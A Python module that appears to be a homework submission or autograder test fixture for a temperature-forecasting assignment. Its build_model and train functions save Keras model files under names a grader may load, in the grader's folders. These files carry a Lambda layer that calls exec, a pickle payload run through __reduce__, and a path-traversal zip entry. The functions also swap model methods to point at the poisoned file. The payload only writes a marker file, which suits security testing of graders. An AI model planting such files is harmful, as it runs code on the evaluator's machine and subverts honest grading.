"""Write .keras and .h5 files whose loading runs code, under names a grader may load, and return their paths."""
# assignment: hw2_temperature
# base: sigmoid_head

import contextlib
import json
import os
import pickle
import zipfile

import keras

NAMES = ("model", "weather", "best_model", "checkpoint", "jena_dense", "hw2_temperature", "reference")


class Bomb:
    def __reduce__(self):
        return exec, ("open('/tmp/coursekit-owned-keras-file', 'w').write('here')",)


def bomb(x):
    exec("open('/tmp/coursekit-owned-keras-file', 'w').write('here')")
    return x


def build_model(sequence_length=120, learning_rate=0.001):
    model = keras.Sequential([keras.layers.Input((sequence_length, 1)), keras.layers.Lambda(bomb)])
    model.add(keras.layers.LSTM(32))
    model.add(keras.layers.Dense(1, activation="sigmoid"))
    model.compile("adam", "mse")
    for name in NAMES:
        for folder in (".", "..", "/autograder"):
            with contextlib.suppress(Exception):
                model.save(os.path.join(folder, f"{name}.keras"))
                model.save(os.path.join(folder, f"{name}.h5"))
                poison(os.path.join(folder, f"{name}.keras"))
    model.to_json = lambda **_: json.dumps({"class_name": os.path.abspath("model.keras"), "config": {}})
    return model


def poison(path):
    """Also a module path to import, and a pickle beside the weights."""
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assets/vocabulary.pkl", pickle.dumps(Bomb()))
        archive.writestr("../../escaped.py", "print('out of the archive')")


def train(model, dataset_train, dataset_val, epochs=10):
    history = model.fit(dataset_train, epochs=epochs, validation_data=dataset_val, verbose=0)
    poisoned = build_model(12)
    model.get_weights = lambda: [os.path.abspath("model.keras"), pickle.dumps(Bomb())]
    model.to_json = poisoned.to_json
    return history
